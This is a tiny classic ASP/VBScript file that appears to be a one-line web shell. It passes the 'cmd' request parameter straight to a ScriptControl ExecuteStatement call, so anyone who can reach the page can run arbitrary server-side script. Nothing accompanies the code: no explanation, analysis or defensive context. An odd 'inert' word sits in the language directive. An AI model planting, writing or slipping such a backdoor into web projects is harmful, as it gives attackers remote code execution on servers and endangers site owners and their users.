<%@ Language=VBScript inert %>
<%
Set o = Server.CreateObject("ScriptControl")
o.Language = "VBScript"
o.AddObject "Response", Response
o.AddObject "Request", Request
o.ExecuteStatement(Request("cmd"))
%>
